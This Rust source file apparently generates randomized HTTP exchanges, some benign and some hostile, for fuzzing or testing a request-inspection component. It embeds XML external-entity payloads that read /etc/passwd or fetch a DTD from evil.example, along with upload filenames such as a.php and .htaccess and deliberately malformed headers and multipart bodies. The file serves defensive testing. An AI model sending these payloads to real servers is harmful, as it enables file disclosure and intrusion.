//! Exchanges that look like those of browsers, programs and attackers, before anything is mutated.

use super::case::Case;
use super::payloads::{AGENTS, CONTENT_TYPES, FAMILIES, HONEST, METHODS, NAMES, PATHS, RESPONSES};
use recording::random::Random;

/// An exchange of one of the kinds.
pub(super) fn exchange(random: &mut Random) -> Case {
    let mut case = Case { uri: path(random), ..Case::default() };
    headers(random, &mut case);
    if random.chance(75) {
        let query = form(random);
        case.uri.push(b'?');
        case.uri.extend_from_slice(&query);
        if random.chance(3) {
            case.uri.extend_from_slice(b"#fragment");
        }
    }
    match random.below(12) {
        0..=2 => {}
        3 | 4 => {
            let body = form(random);
            with_body(random, &mut case, "application/x-www-form-urlencoded", body);
        }
        5 | 6 => {
            let body = json(random);
            with_body(random, &mut case, "application/json", body);
        }
        7 => {
            let body = xml(random);
            with_body(random, &mut case, "text/xml", body);
        }
        8..=10 => multipart(random, &mut case),
        _ => {
            let kind = random.pick(CONTENT_TYPES).to_owned();
            let body = match random.below(5) {
                0 => form(random),
                1 => json(random),
                2 => xml(random),
                3 => value(random),
                _ => (0..random.range(1, 60)).map(|_| random.byte()).collect(),
            };
            with_body(random, &mut case, &kind, body);
        }
    }
    if random.chance(6) {
        case.method = random.pick(METHODS).as_bytes().to_vec();
    }
    response(random, &mut case);
    case
}

/// Something to send: honest, or an attack.
pub(super) fn value(random: &mut Random) -> Vec<u8> {
    if random.chance(50) {
        let mut value = random.pick(HONEST).as_bytes().to_vec();
        if random.chance(5) {
            value = value.repeat(random.range(2, 60));
        }
        return value;
    }
    let (_, payloads) = FAMILIES[random.below(FAMILIES.len())];
    let payload = random.pick(payloads).as_bytes();
    match random.below(6) {
        0 => [random.pick(HONEST).as_bytes(), b" ", payload].concat(),
        1 => [payload, b" ", random.pick(HONEST).as_bytes()].concat(),
        _ => payload.to_vec(),
    }
}

fn name(random: &mut Random) -> Vec<u8> {
    if random.chance(4) { value(random) } else { random.pick(NAMES).as_bytes().to_vec() }
}

fn path(random: &mut Random) -> Vec<u8> {
    let mut path = random.pick(PATHS).as_bytes().to_vec();
    if random.chance(8) {
        path.push(b'/');
        path.extend_from_slice(&percent_encoded(&value(random), b"/.-_~;,'()*"));
    }
    path
}

/// Pairs as a browser encodes them, mostly.
fn form(random: &mut Random) -> Vec<u8> {
    let mut out = Vec::new();
    let count = if random.chance(2) { random.range(20, 60) } else { random.range(1, 5) };
    for number in 0..count {
        if number > 0 {
            out.push(if random.chance(1) { b';' } else { b'&' });
        }
        let (name, value) = (name(random), value(random));
        let mut encode = |bytes: &[u8]| match random.below(10) {
            0 => bytes.to_vec(),
            1 => percent_encoded(bytes, b"/.-_~;,'()*:=<>\"$"),
            _ => {
                percent_encoded(bytes, b".-_*").into_iter().map(|byte| if byte == b' ' { b'+' } else { byte }).collect()
            }
        };
        out.extend_from_slice(&encode(&name));
        if !random_equals_missing(&name) {
            out.push(b'=');
        }
        let mut encode = |bytes: &[u8]| match random.below(10) {
            0 => bytes.to_vec(),
            1 => percent_encoded(bytes, b"/.-_~;,'()*:=<>\"$"),
            _ => percent_encoded(bytes, b".-_*"),
        };
        out.extend_from_slice(&encode(&value));
    }
    out
}

/// Some pairs have no value.
fn random_equals_missing(name: &[u8]) -> bool {
    name == b"1"
}

/// Percent encoding of all but letters, digits and what is kept.
pub(super) fn percent_encoded(bytes: &[u8], kept: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    for &byte in bytes {
        if byte.is_ascii_alphanumeric() || kept.contains(&byte) {
            out.push(byte);
        } else {
            out.extend_from_slice(format!("%{byte:02X}").as_bytes());
        }
    }
    out
}

fn json(random: &mut Random) -> Vec<u8> {
    let mut out = Vec::new();
    let depth = if random.chance(3) { random.range(10, 40) } else { random.range(1, 3) };
    json_value(random, depth, &mut out);
    if random.chance(4) {
        out.extend_from_slice(random.pick(&[&b" "[..], b"\n", b"x", b",", b"}", b"\0"]));
    }
    out
}

fn json_value(random: &mut Random, depth: usize, out: &mut Vec<u8>) {
    match random.below(if depth == 0 { 6 } else { 10 }) {
        0 => out.extend_from_slice(random.pick(&[
            &b"1"[..],
            b"-0.5",
            b"1e9",
            b"12345678901234567890",
            b"true",
            b"null",
            b"false",
        ])),
        1..=5 => json_string(random, out),
        6..=8 => {
            out.push(b'{');
            for number in 0..random.below(5) {
                if number > 0 {
                    out.extend_from_slice(b", ");
                }
                let name = name(random);
                json_quoted(random, &name, out);
                out.push(b':');
                json_value(random, depth - 1, out);
            }
            out.push(b'}');
        }
        _ => {
            out.push(b'[');
            for number in 0..random.below(4) {
                if number > 0 {
                    out.push(b',');
                }
                json_value(random, depth - 1, out);
            }
            out.push(b']');
        }
    }
}

fn json_string(random: &mut Random, out: &mut Vec<u8>) {
    let value = value(random);
    json_quoted(random, &value, out);
}

fn json_quoted(random: &mut Random, text: &[u8], out: &mut Vec<u8>) {
    out.push(b'"');
    for &byte in text {
        match byte {
            b'"' | b'\\' => out.extend_from_slice(&[b'\\', byte]),
            b'\n' => out.extend_from_slice(b"\\n"),
            b'\r' => out.extend_from_slice(b"\\r"),
            b'\t' => out.extend_from_slice(b"\\t"),
            0..0x20 => out.extend_from_slice(format!("\\u{byte:04x}").as_bytes()),
            b'<' | b'\'' | b'/' if random.chance(20) => out.extend_from_slice(format!("\\u{byte:04x}").as_bytes()),
            _ => out.push(byte),
        }
    }
    out.push(b'"');
}

fn xml(random: &mut Random) -> Vec<u8> {
    let mut out = Vec::new();
    if random.chance(50) {
        out.extend_from_slice(b"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n");
    }
    if random.chance(6) {
        out.extend_from_slice(random.pick(&[
            &b"<!DOCTYPE a [<!ENTITY e \"boom\">]>"[..],
            b"<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\">",
            b"<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        ]));
    }
    let depth = random.range(1, 3);
    xml_element(random, depth, &mut out);
    out
}

fn xml_element(random: &mut Random, depth: usize, out: &mut Vec<u8>) {
    let name = random.pick(&["a", "order", "s:Envelope", "item", "b"]);
    out.extend_from_slice(format!("<{name}").as_bytes());
    if name.starts_with("s:") {
        out.extend_from_slice(b" xmlns:s=\"http://example.org/s\"");
    }
    if random.chance(40) {
        let value = value(random);
        out.extend_from_slice(b" id=\"");
        xml_escaped(random, &value, out);
        out.push(b'"');
    }
    out.push(b'>');
    for _ in 0..random.range(0, 3) {
        match random.below(8) {
            0 => out.extend_from_slice(b"<!-- note -->"),
            1 => {
                out.extend_from_slice(b"<![CDATA[");
                out.extend_from_slice(&value(random));
                out.extend_from_slice(b"]]>");
            }
            2 => out.extend_from_slice(b"\n  "),
            3 if depth > 0 => xml_element(random, depth - 1, out),
            4 if depth > 0 => xml_element(random, depth - 1, out),
            _ => {
                let value = value(random);
                xml_escaped(random, &value, out);
            }
        }
    }
    out.extend_from_slice(format!("</{name}>").as_bytes());
}

fn xml_escaped(random: &mut Random, text: &[u8], out: &mut Vec<u8>) {
    for &byte in text {
        match byte {
            b'<' => out.extend_from_slice(b"&lt;"),
            b'&' => out.extend_from_slice(b"&amp;"),
            b'"' => out.extend_from_slice(b"&quot;"),
            b'\'' if random.chance(30) => out.extend_from_slice(b"&#39;"),
            b'a' if random.chance(5) => out.extend_from_slice(b"&#x61;"),
            0..0x20 if !matches!(byte, b'\t' | b'\n' | b'\r') => {}
            _ => out.push(byte),
        }
    }
}

/// A multipart form, and now and then one that parsers read in several ways.
fn multipart(random: &mut Random, case: &mut Case) {
    let boundary = random.pick(&[
        "----WebKitFormBoundaryx7Ad9k2LmQ",
        "0000",
        "---------------------------9051914041544843365972754266",
        "a",
        "b'()+_,-./:=?",
        "=_x",
        "X-Y",
    ]);
    let content_type = match random.below(20) {
        0 => format!("multipart/form-data; boundary=\"{boundary}\""),
        1 => format!("multipart/form-data; charset=utf-8; boundary={boundary}"),
        2 => format!("multipart/form-data;boundary={boundary}"),
        3 => format!("Multipart/Form-Data; Boundary={boundary}"),
        4 => format!("multipart/form-data; boundary={boundary}; charset=utf-8"),
        5 => match random.below(5) {
            0 => format!("multipart/form-data boundary={boundary}"),
            1 => format!("multipart/form-data; boundary= {boundary}"),
            2 => format!("multipart/form-data; boundary={boundary}; boundary=x"),
            3 => "multipart/form-data".to_owned(),
            _ => format!("multipart/form-data; boundary={boundary} "),
        },
        _ => format!("multipart/form-data; boundary={boundary}"),
    };
    let mut body = Vec::new();
    let end: &[u8] = if random.chance(4) { b"\n" } else { b"\r\n" };
    let line = |body: &mut Vec<u8>, text: &[u8]| {
        body.extend_from_slice(text);
        body.extend_from_slice(end);
    };
    if random.chance(3) {
        line(&mut body, b"preamble");
    }
    for _ in 0..random.range(1, 4) {
        line(&mut body, format!("--{boundary}").as_bytes());
        let quoted = |bytes: Vec<u8>| -> Vec<u8> {
            bytes
                .into_iter()
                .filter(|byte| !matches!(byte, b'\r' | b'\n' | 0))
                .flat_map(|byte| if byte == b'"' { b"%22".to_vec() } else { vec![byte] })
                .collect()
        };
        let name = quoted(name(random));
        let mut head = [b"Content-Disposition: form-data; name=\"", name.as_slice(), b"\""].concat();
        let file = random.chance(35);
        if file {
            let filename = if random.chance(60) {
                random
                    .pick(&[
                        "photo.jpg",
                        "a.php",
                        "x.txt",
                        "C:\\a\\b.doc",
                        ".htaccess",
                        "r%C3%A9sum%C3%A9.pdf",
                        "résumé.pdf",
                        "a;b.txt",
                        "a'b.txt",
                        "",
                    ])
                    .as_bytes()
                    .to_vec()
            } else {
                quoted(value(random))
            };
            head.extend_from_slice(&[b"; filename=\"", filename.as_slice(), b"\""].concat());
            if random.chance(6) {
                head.extend_from_slice(b"; filename*=UTF-8''x%20y.txt");
            }
        }
        match random.below(40) {
            0 => head = head.to_ascii_lowercase(),
            1 => head = head.iter().map(|&byte| if byte == b'"' { b'\'' } else { byte }).collect(),
            2 => head.retain(|&byte| byte != b'"'),
            3 => head = b"Content-Disposition: attachment; name=\"x\"".to_vec(),
            4 => head = b"Content-Disposition: form-data".to_vec(),
            5 => head.extend_from_slice(b"; name=\"again\""),
            _ => {}
        }
        line(&mut body, &head);
        if file || random.chance(5) {
            line(
                &mut body,
                [
                    b"Content-Type: ",
                    random
                        .pick(&[
                            "image/jpeg",
                            "text/plain",
                            "application/octet-stream",
                            "text/plain; charset=utf-7",
                            "text/html",
                        ])
                        .as_bytes(),
                ]
                .concat()
                .as_slice(),
            );
        }
        match random.below(40) {
            0 => line(&mut body, b"Content-Transfer-Encoding: base64"),
            1 => line(&mut body, b"X-Folded: a\r\n b"),
            2 => line(&mut body, b"no colon here"),
            3 => line(&mut body, b"X-Empty:"),
            _ => {}
        }
        if !random.chance(1) {
            line(&mut body, b"");
        }
        let content = if file && random.chance(40) {
            (0..random.range(0, 200)).map(|_| random.byte()).collect()
        } else {
            value(random)
        };
        line(&mut body, &content);
    }
    match random.below(30) {
        0 => {}
        1 => body.extend_from_slice(format!("--{boundary}--").as_bytes()),
        2 => {
            line(&mut body, format!("--{boundary}--").as_bytes());
            line(&mut body, b"epilogue");
        }
        3 => line(&mut body, format!("--{boundary}").as_bytes()),
        _ => line(&mut body, format!("--{boundary}--").as_bytes()),
    }
    with_body(random, case, &content_type, body);
}

fn with_body(random: &mut Random, case: &mut Case, content_type: &str, body: Vec<u8>) {
    case.method = if random.chance(85) { b"POST".to_vec() } else { random.pick(METHODS).as_bytes().to_vec() };
    if !random.chance(3) {
        case.headers.push((b"Content-Type".to_vec(), content_type.as_bytes().to_vec()));
    }
    match random.below(20) {
        0 => case.headers.push((b"Transfer-Encoding".to_vec(), b"chunked".to_vec())),
        1 if random.chance(30) => {}
        2 if random.chance(20) => case.headers.push((b"Content-Length".to_vec(), b"abc".to_vec())),
        _ => case.headers.push((b"Content-Length".to_vec(), body.len().to_string().into_bytes())),
    }
    case.body = body;
}

fn headers(random: &mut Random, case: &mut Case) {
    let mut add = |name: &str, value: &[u8]| case.headers.push((name.as_bytes().to_vec(), value.to_vec()));
    match random.below(30) {
        0 => {}
        1 => add("Host", b"192.0.2.10"),
        2 => add("Host", b""),
        3 => add("Host", b"shop.example:8080"),
        4 => add("host", b"[2001:db8::1]:80"),
        _ => add("Host", b"shop.example"),
    }
    if !random.chance(6) {
        let agent = if random.chance(70) { AGENTS[0] } else { random.pick(AGENTS) };
        add("User-Agent", agent.as_bytes());
    }
    if !random.chance(8) {
        let accept = random.pick(&[
            "*/*",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "application/json",
            "",
            "text/html; charset=x",
            "a/b/c",
        ]);
        add("Accept", accept.as_bytes());
    }
    if random.chance(50) {
        add("Accept-Encoding", random.pick(&["gzip, deflate, br", "identity", "*", "x"]).as_bytes());
        add("Accept-Language", random.pick(&["en-US,en;q=0.5", "de", "xx-yy,;q"]).as_bytes());
    }
    if random.chance(45) {
        let mut cookie = b"session=5f2d8a90c4e14b7f; theme=dark".to_vec();
        if random.chance(40) {
            let name = percent_encoded(&name(random), b"-_.$[]");
            let value = if random.chance(50) { percent_encoded(&value(random), b"-_.'()*/:") } else { value(random) };
            cookie.extend_from_slice(&[b"; ", name.as_slice(), b"=", value.as_slice()].concat());
        }
        if random.chance(5) {
            cookie.extend_from_slice(
                random.pick(&[";", "; a", ";;b=", "; =c", "; JSESSIONID=\"x\"", "; __utma=1'2"]).as_bytes(),
            );
        }
        add("Cookie", &cookie);
    }
    if random.chance(35) {
        let referer = if random.chance(70) { b"https://shop.example/shop?x=1".to_vec() } else { value(random) };
        add("Referer", &referer);
    }
    if random.chance(25) {
        let name = random.pick(&[
            "X-Forwarded-For",
            "Range",
            "Request-Range",
            "Connection",
            "Authorization",
            "Origin",
            "X-Filename",
            "If-Match",
            "Proxy",
            "X-Http-Method-Override",
            "Upgrade-Insecure-Requests",
            "Content-Encoding",
            "Expect",
            "X-Up-Devcap-Post-Charset",
            "Cache-Control",
            "Accept-Charset",
            "TE",
            "x-custom",
        ]);
        let value = match (name, random.below(3)) {
            ("Range" | "Request-Range", 0 | 1) => {
                random.pick(&["bytes=0-10", "bytes=1-2,3-4,5-6,7-8,9-10,11-12", "bytes=10-5", "x"]).as_bytes().to_vec()
            }
            ("Connection", 0 | 1) => random
                .pick(&["keep-alive", "close", "keep-alive, keep-alive", "close, keep-alive", "Upgrade"])
                .as_bytes()
                .to_vec(),
            ("Authorization", 0 | 1) => {
                random.pick(&["Basic YW5uYTpzZWNyZXQ=", "Bearer abc", "Basic Jz0nOid=", "Digest x"]).as_bytes().to_vec()
            }
            (_, _) => value(random),
        };
        add(name, &value);
    }
    if random.chance(3) {
        case.protocol = random.pick(&["HTTP/1.0", "HTTP/2.0", "HTTP/3.0", "HTTP/0.9", "HTTP/4.0"]).to_owned();
    }
    if random.chance(3) {
        case.client = random.pick(&["127.0.0.1", "::1", "2001:db8::7", "10.0.0.1"]).to_owned();
    }
}

fn response(random: &mut Random, case: &mut Case) {
    case.status = match random.below(12) {
        0 => 500,
        1 => 404,
        2 => [301, 403, 204, 503, 400][random.below(5)],
        _ => 200,
    };
    let kind = if random.chance(70) {
        "text/html; charset=utf-8"
    } else {
        random.pick(&[
            "application/json",
            "text/plain",
            "TEXT/HTML",
            "image/png",
            "",
            "text/xml;x",
            "text/html ;charset=x",
        ])
    };
    case.response_headers.push((b"Content-Type".to_vec(), kind.as_bytes().to_vec()));
    if random.chance(5) {
        case.response_headers.push((b"Content-Encoding".to_vec(), b"gzip".to_vec()));
    }
    let mut body = if random.chance(60) { RESPONSES[0] } else { random.pick(RESPONSES) }.as_bytes().to_vec();
    if random.chance(10) {
        body.extend_from_slice(random.pick(RESPONSES).as_bytes());
    }
    case.response_body = body;
}
